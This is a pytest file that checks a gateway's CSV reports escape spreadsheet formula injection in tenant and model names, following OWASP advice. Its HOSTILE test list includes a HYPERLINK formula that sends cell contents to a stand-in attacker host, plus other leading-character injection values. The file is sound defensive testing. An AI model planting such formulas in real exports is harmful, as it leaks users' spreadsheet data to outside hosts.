"""CSV reports never hand a spreadsheet a formula: a tenant named ``=HYPERLINK(...)``, ``+1``,
``-1`` or ``@x`` is written with a leading ``'`` (OWASP's advice), by ``tidegate report`` and by
``GET /admin/reports/tenants/{tenant}?format=csv`` alike; the JSON keeps the name as it is."""

from __future__ import annotations

import csv
import io
import time
from urllib.parse import quote

import httpx
import pytest

from gateway.ledger import make_backend, row_values
from ops.cli import main

from .ledger_rows import reporting_gateway

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@x", "\tt", "plain"]


def _cells(text: str) -> list[list[str]]:
    return [row for row in csv.reader(io.StringIO(text)) if row]  # (print adds a blank line)


def _formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate (OWASP's list of leading characters)."""
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_cli_csv_writes_no_formula_and_keeps_the_names_readable(tmp_path, capsys):
    backend = make_backend(tmp_path / "ledger.sqlite")
    backend.migrate()
    now = time.time()
    backend.write(
        [
            row_values(f"r{i}", now, name, "-mlp", "vm", 200, 2.0, cost_usd=0.5)
            for i, name in enumerate(HOSTILE)
        ]
    )
    backend.close()
    assert main(["report", "--data-dir", str(tmp_path), "--format", "csv", "--by", "model"]) == 0
    rows = _cells(capsys.readouterr().out)
    assert _formulas(rows) == []
    assert sorted(row[0] for row in rows[1:]) == sorted(
        "'" + name if name[0] in "=+-@\t" else name for name in HOSTILE
    )
    assert {row[1] for row in rows[1:]} == {"'-mlp"}  # a model name is text, too
    cost = rows[0].index("cost_usd")  # numbers stay numbers: no quote
    assert [float(row[cost]) for row in rows[1:]] == [0.5] * len(HOSTILE)
    assert main(["report", "--data-dir", str(tmp_path), "--format", "json"]) == 0
    assert "+1" in capsys.readouterr().out  # JSON is not a spreadsheet: the name as it is


TENANTS = [
    {"name": HOSTILE[0], "api_keys": ["kh"]},
    {"name": "-1", "api_keys": ["km"]},
]


@pytest.fixture(scope="module")
def gateway(model_server, small_repo, tmp_path_factory):
    data = tmp_path_factory.mktemp("ops24-csv")
    with reporting_gateway(model_server, small_repo, data, TENANTS, {"kh": 2, "km": 1}) as url:
        yield url


@pytest.mark.parametrize("tenant, key", [(HOSTILE[0], "kh"), ("-1", "km"), ("-1", "adm")])
def test_the_endpoint_csv_writes_no_formula(gateway, tenant, key):
    path = f"{gateway}/admin/reports/tenants/{quote(tenant, safe='')}?format=csv"
    r = httpx.get(path, headers={"x-api-key": key}, timeout=60)
    assert r.status_code == 200, r.text
    rows = _cells(r.text)
    assert _formulas(rows) == [] and rows[1][0] == "'" + tenant
